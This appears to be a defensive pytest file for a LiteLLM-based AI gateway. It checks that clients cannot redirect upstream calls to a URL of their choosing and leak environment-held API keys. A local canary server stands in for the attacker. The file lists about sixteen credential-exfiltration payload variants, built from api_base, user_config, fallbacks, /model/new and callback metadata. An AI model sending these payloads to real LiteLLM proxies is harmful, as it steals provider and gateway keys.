"""Issue 17 S1: a client holding the gateway key must not make LiteLLM call a URL of its choosing.

Every variant below was (or could be) a way to hand LiteLLM an upstream of the client's choosing
together with `os.environ/...` (LiteLLM resolves that syntax into the process's environment, so
the Azure OpenAI key or the gateway key itself would be sent to the client's URL). The real
LiteLLM 1.81.15 serves the rendered dev config; a canary listener on 127.0.0.1 stands for the
attacker's server. It must receive nothing, for every variant, and every variant is refused.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from aigw.config import EnvConfig
from aigw.config_load import load_env
from aigw.gateway_process import GatewayProcess, start_gateway
from aigw.localcloud.aoai import AzureOpenAIEmulator, Deployment
from aigw.render import AZURE_OPENAI_KEY_VAR, GATEWAY_KEY_VAR, render_gateway, write_files
from conftest import AOAI_KEY_CANARY, ENV_DIR, GATEWAY_KEY_CANARY
from gateway_fixtures import litellm_env_for_tests

pytestmark = [pytest.mark.litellm, pytest.mark.slow]

AOAI_ENV = f"os.environ/{AZURE_OPENAI_KEY_VAR}"
GATEWAY_ENV = f"os.environ/{GATEWAY_KEY_VAR}"


@dataclass
class Canary:
    """The attacker's server: records every request it receives and answers 400 (no retries)."""

    sock: socket.socket = field(default_factory=lambda: socket.socket())
    received: list[bytes] = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)

    def start(self) -> Canary:
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(32)
        self.sock.settimeout(0.2)
        threading.Thread(target=self._serve, daemon=True).start()
        return self

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.sock.getsockname()[1]}"

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(65536))
                    body = b'{"error":{"message":"canary","code":"400"}}'
                    conn.sendall(
                        b"HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\n"
                        + f"Content-Length: {len(body)}\r\n\r\n".encode()
                        + body
                    )
                except OSError:
                    self.received.append(b"<connection>")

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


@dataclass
class Gateway:
    config: EnvConfig
    process: GatewayProcess
    canary: Canary

    def client(self) -> httpx.Client:
        return httpx.Client(
            base_url=self.process.url,
            headers={"Authorization": f"Bearer {GATEWAY_KEY_CANARY}"},
            timeout=30,
            trust_env=False,
        )


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    workdir: Path = tmp_path_factory.mktemp("exfil")
    aoai = AzureOpenAIEmulator(api_key=AOAI_KEY_CANARY).start()
    cfg = load_env("dev", ENV_DIR).config
    aoai.set_deployments(
        [Deployment(m.deployment_name, m.kind.value, m.dimensions) for m in cfg.models]
    )
    cfg = cfg.with_endpoint(aoai.url)
    rendered = render_gateway(cfg)
    args = write_files(rendered, workdir / "files")
    environ = {
        **rendered.env,
        GATEWAY_KEY_VAR: GATEWAY_KEY_CANARY,
        AZURE_OPENAI_KEY_VAR: AOAI_KEY_CANARY,
    }
    canary = Canary().start()
    process = start_gateway(litellm_env_for_tests(), args, environ, port=None, workdir=workdir)
    try:
        yield Gateway(cfg, process, canary)
    finally:
        process.stop()
        canary.close()
        aoai.stop()


def _variants(cfg: EnvConfig, url: str) -> dict[str, tuple[str, str, dict[str, Any]]]:
    """name -> (method, path, JSON body). `url` is the attacker's; each variant its own path."""
    embed = next(m.alias for m in cfg.models if m.kind.value == "embeddings")
    codex = next(m.alias for m in cfg.models if m.kind.value == "responses")

    def evil(name: str, key: str = AOAI_ENV) -> dict[str, Any]:
        return {"model": "azure/x", "api_base": f"{url}/{name}", "api_key": key}

    def user_config(name: str) -> dict[str, Any]:
        return {"model_list": [{"model_name": "evil", "litellm_params": evil(name)}]}

    msgs = [{"role": "user", "content": "hi"}]
    v: dict[str, tuple[str, str, dict[str, Any]]] = {
        # the finding as reported: user_config on embeddings and responses
        "user_config embeddings": (
            "POST",
            "/v1/embeddings",
            {"model": "evil", "input": "x", "user_config": user_config("uc-embed")},
        ),
        "user_config responses": (
            "POST",
            "/v1/responses",
            {"model": "evil", "input": "x", "user_config": user_config("uc-resp")},
        ),
        "user_config chat": (
            "POST",
            "/v1/chat/completions",
            {"model": "evil", "messages": msgs, "user_config": user_config("uc-chat")},
        ),
        # a provider model with api_base + api_key in the body (passes LiteLLM's own check)
        "azure model embeddings": ("POST", "/v1/embeddings", {**evil("az-embed"), "input": "x"}),
        "azure model responses": ("POST", "/v1/responses", {**evil("az-resp"), "input": "x"}),
        "azure model chat": ("POST", "/v1/chat/completions", {**evil("az-chat"), "messages": msgs}),
        "gateway key as api_key": (
            "POST",
            "/v1/embeddings",
            {**evil("gw-key", GATEWAY_ENV), "input": "x"},
        ),
        # a configured alias with its upstream overridden from the body
        "alias with api_base": (
            "POST",
            "/v1/embeddings",
            {**evil("alias-embed"), "model": embed, "input": "x"},
        ),
        "alias with base_url": (
            "POST",
            "/v1/responses",
            {
                "model": codex,
                "input": "x",
                "base_url": f"{url}/alias-base-url",
                "api_key": AOAI_ENV,
            },
        ),
        # client-side fallbacks to an upstream of the client's choosing
        "fallbacks": (
            "POST",
            "/v1/chat/completions",
            {
                "model": "does-not-exist",
                "messages": msgs,
                "mock_testing_fallbacks": True,
                "fallbacks": [evil("fallback")],
            },
        ),
        # the Anthropic-shaped route and the Azure-shaped route go through the same router
        "anthropic route": (
            "POST",
            "/v1/messages",
            {**evil("anthropic"), "max_tokens": 5, "messages": msgs},
        ),
        "azure-shaped route": (
            "POST",
            f"/openai/deployments/{embed}/embeddings",
            {**evil("azure-route"), "input": "x"},
        ),
        # admin routes the master key opens: a new model pointing anywhere
        "model/new": (
            "POST",
            "/model/new",
            {"model_name": "evil", "litellm_params": evil("model-new")},
        ),
        # a logging callback's host taken from the body, its key from the environment
        "callback host in metadata": (
            "POST",
            "/v1/embeddings",
            {
                "model": embed,
                "input": "x",
                "metadata": {"langsmith_base_url": f"{url}/cb", "langsmith_api_key": AOAI_ENV},
            },
        ),
    }
    return v


def test_no_variant_reaches_a_url_of_the_clients_choosing(gateway: Gateway) -> None:
    variants = _variants(gateway.config, gateway.canary.url)
    embed = next(m.alias for m in gateway.config.models if m.kind.value == "embeddings")
    url = gateway.canary.url
    answers: dict[str, int] = {}
    with gateway.client() as c:
        sent = [
            (name, c.request(method, path, json=body))
            for name, (method, path, body) in variants.items()
        ]
        # the same settings as query parameters (LiteLLM merges the query into the request
        # data) and as a form-encoded body (LiteLLM parses forms into the same dict)
        sent.append(
            (
                "query parameters",
                c.post(
                    "/v1/embeddings",
                    params={"api_base": f"{url}/query", "api_key": AOAI_ENV},
                    json={"model": embed, "input": "x"},
                ),
            )
        )
        sent.append(
            (
                "form body",
                c.post(
                    "/v1/embeddings",
                    data={
                        "model": embed,
                        "input": "x",
                        "api_base": f"{url}/form",
                        "api_key": AOAI_ENV,
                    },
                ),
            )
        )
        for name, r in sent:
            answers[name] = r.status_code
            assert GATEWAY_KEY_CANARY not in r.text and AOAI_KEY_CANARY not in r.text, name
    reached = [raw.split(b"\r\n", 1)[0].decode(errors="replace") for raw in gateway.canary.received]
    leaked = [raw for raw in gateway.canary.received if AOAI_KEY_CANARY.encode() in raw]
    assert reached == [], (
        f"the gateway called the client's URL: {reached} (key sent {len(leaked)}x)"
    )
    # every variant is refused before routing (4xx), none served
    served = {n: s for n, s in answers.items() if not 400 <= s < 500}
    assert served == {}, served


def test_ordinary_requests_still_work(gateway: Gateway) -> None:
    """The guard refuses what it must and nothing more: what coding clients send passes."""
    embed = next(m.alias for m in gateway.config.models if m.kind.value == "embeddings")
    codex = next(m.alias for m in gateway.config.models if m.kind.value == "responses")
    with gateway.client() as c:
        assert c.get("/v1/models").status_code == 200
        r = c.post(
            "/v1/embeddings",
            json={"model": embed, "input": "mentions os.environ/X in text", "user": "dev-1"},
        )
        assert r.status_code == 200, r.text
        r = c.post(
            "/v1/responses",
            json={
                "model": codex,
                "input": "hi",
                "metadata": {"session": "abc"},
                "tools": [
                    {
                        "type": "function",
                        "name": "login",
                        "parameters": {
                            "type": "object",
                            "properties": {"api_key": {"type": "string"}},
                        },
                    }
                ],
            },
        )
        assert r.status_code == 200, r.text
    assert gateway.canary.received == []
